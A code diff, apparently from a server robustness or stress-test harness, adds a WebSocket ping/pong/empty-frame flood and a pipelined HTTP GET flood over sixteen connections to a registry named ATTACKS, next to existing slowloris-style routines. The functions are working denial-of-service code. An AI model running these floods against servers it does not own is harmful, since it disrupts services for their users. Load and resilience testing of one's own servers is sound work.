@@ -140,6 +140,25 @@ def unread_answers(address: str, until: float, text: str = "<" * 2_000) -> None:
         time.sleep(max(0, until - time.monotonic()))
 
 
+def signs_of_life(address: str, until: float) -> None:
+    """Send pings, pongs and empty parts of messages as fast as they are taken, and read nothing."""
+    parts = (b"\x89\x80\0\0\0\0", b"\x8a\x80\0\0\0\0", b"\x00\x80\0\0\0\0")
+    while time.monotonic() < until:
+        with several(address, 3) as sockets:
+            for part, raw in zip(parts, sockets, strict=False):
+                with suppress(OSError):
+                    raw.sendall(b"\x02\x80\0\0\0\0" + 20_000 * part)
+
+
+def requests(address: str, until: float, connections: int = 16) -> None:
+    """Ask for a page over sixteen connections, again and again."""
+    asked = 50 * b"GET / HTTP/1.1\r\nHost: x\r\nAccept: text/html\r\n\r\n"
+    while time.monotonic() < until:
+        with ExitStack() as stack, suppress(OSError):
+            opened = [stack.enter_context(connect(address)) for _ in range(connections)]
+            send(opened, min(until, time.monotonic() + 2), (asked for _ in range(2_000)))
+
+
 def half_requests(address: str, until: float, number: int = 1_900) -> None:
     """Begin very many requests, and end none of them."""
     soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
@@ -219,6 +238,8 @@ ATTACKS: dict[str, Callable[[str, float], None]] = {
     "60 messages of 8,000 states": large_states,
     "40 that never read": unread_answers,
     "1,900 half requests": half_requests,
+    "pings and parts": signs_of_life,
+    "pages without end": requests,
     "lines for the log": lines_of_the_log,
     "250 signs of life": seats,
     "250 visits": visits,
